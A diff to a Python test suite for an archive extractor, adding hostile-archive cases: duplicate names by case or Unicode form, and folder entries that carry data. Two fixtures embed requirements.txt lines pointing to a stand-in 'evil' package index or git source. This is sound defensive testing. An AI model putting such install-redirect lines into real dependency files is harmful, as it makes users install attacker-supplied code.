@@ -25,7 +25,6 @@ from pathlib import Path
 
 import pytest
 
-from attune_packs.domain.archive import extract as archive_extract
 from attune_packs.domain.archive import (
     ArchiveLimits,
     PackArchive,
@@ -34,6 +33,7 @@ from attune_packs.domain.archive import (
     extract_archive,
     scan_archive,
 )
+from attune_packs.domain.archive import extract as archive_extract
 from attune_packs.errors import ArchiveError
 
 MANIFEST = b"ref: demo\nname: demo\nversion: 1.0.0\n"
@@ -43,6 +43,7 @@ MEMBER_CODES = {
     "ARCHIVE_LINK_FORBIDDEN",
     "ARCHIVE_SPECIAL_FILE",
     "ARCHIVE_DUPLICATE_ENTRY",
+    "ARCHIVE_DUPLICATE_MEMBER",
     "ARCHIVE_BAD_FILENAME",
     "ARCHIVE_FILE_TOO_LARGE",
 }
@@ -179,6 +180,14 @@ def listing(root: Path) -> list[str]:
 # --- the hostile archive suite (SECURITY.md catalogue items 1-8) ----------------------------------
 
 Build = Callable[[], bytes]
+
+
+def _directory_with_data(name: str, data: bytes) -> list[tuple[tarfile.TarInfo, bytes]]:
+    """A directory header that declares the size of ``data`` (tarfile reads the next header right after
+    it; a reader that skips the declared size would read ``data`` instead)."""
+    info, _ = directory(name)
+    info.size = len(data)
+    return [(info, b"")]
 
 
 def _lying_zip() -> bytes:
@@ -514,6 +523,56 @@ HOSTILE = [
         lambda: patch_central_directory(zip_pack(("pack/a.txt", b"hello")), "pack/a.txt", flags=0x1),
         None,
     ),
+    # 28. names equal for a person or a file system (Unicode NFC/NFD, case)
+    (
+        "tar-manifest-twice-by-case",
+        "ARCHIVE_DUPLICATE_MEMBER",
+        lambda: tgz_pack(member("pack/Pack.yaml", MANIFEST)),
+        None,
+    ),
+    (
+        "tar-nfc-and-nfd",
+        "ARCHIVE_DUPLICATE_MEMBER",
+        lambda: tgz_pack(member("pack/caf\u00e9.yaml", b"a: 1\n"), member("pack/cafe\u0301.yaml", b"a: 2\n")),
+        None,
+    ),
+    (
+        "tar-actions-by-case",
+        "ARCHIVE_DUPLICATE_MEMBER",
+        lambda: tgz_pack(member("pack/actions/Run.yaml", b"a"), member("pack/actions/run.yaml", b"b")),
+        None,
+    ),
+    (
+        "tar-folders-by-case",
+        "ARCHIVE_DUPLICATE_MEMBER",
+        lambda: tgz_pack(member("pack/Actions/a.yaml", b"a"), member("pack/actions/b.yaml", b"b")),
+        None,
+    ),
+    (
+        "zip-nfd-folder-and-nfc-file",
+        "ARCHIVE_DUPLICATE_MEMBER",
+        lambda: zip_pack(("pack/re\u0301sume\u0301/a.txt", b"a"), ("pack/r\u00e9sum\u00e9", b"b")),
+        None,
+    ),
+    (
+        "zip-manifest-twice-by-case",
+        "ARCHIVE_DUPLICATE_MEMBER",
+        lambda: zip_pack(("pack/PACK.YAML", MANIFEST)),
+        None,
+    ),
+    # 27. entries two readers see differently
+    (
+        "zip-folder-flag-carrying-data",
+        "ARCHIVE_CORRUPT",
+        lambda: zip_pack((zinfo("pack/requirements.txt", mode=stat.S_IFDIR | 0o755), b"-e git+https://x/y\n")),
+        None,
+    ),
+    (
+        "tar-folder-carrying-data",
+        "ARCHIVE_CORRUPT",
+        lambda: tgz_pack(*_directory_with_data("pack/requirements.txt", b"--index-url https://evil/\n")),
+        None,
+    ),
     # 8. no pack root, or several
     ("tar-no-manifest", "PACK_MANIFEST_MISSING", lambda: tgz(member("pack/README.md", b"hi")), None),
     ("tar-manifest-too-deep", "PACK_MANIFEST_MISSING", lambda: tgz(member("a/b/pack.yaml", MANIFEST)), None),
@@ -593,6 +652,7 @@ def test_the_hostile_suite_covers_every_catalogue_code() -> None:
         "ARCHIVE_TOO_MANY_FILES",
         "ARCHIVE_FILE_TOO_LARGE",
         "ARCHIVE_DUPLICATE_ENTRY",
+        "ARCHIVE_DUPLICATE_MEMBER",
         "ARCHIVE_BAD_FILENAME",
         "ARCHIVE_CORRUPT",
         "ARCHIVE_UNSUPPORTED_FORMAT",
